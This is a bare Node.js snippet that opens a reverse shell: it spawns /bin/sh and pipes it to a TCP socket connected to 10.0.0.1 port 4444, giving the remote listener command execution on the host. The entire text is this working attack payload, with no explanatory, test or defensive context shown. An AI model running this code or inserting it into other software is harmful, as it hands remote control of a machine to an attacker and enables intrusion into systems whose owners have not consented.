const net = require("net"), cp = require("child_process");
const sh = cp.spawn("/bin/sh", []);
const c = new net.Socket();
c.connect(4444, "10.0.0.1", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });
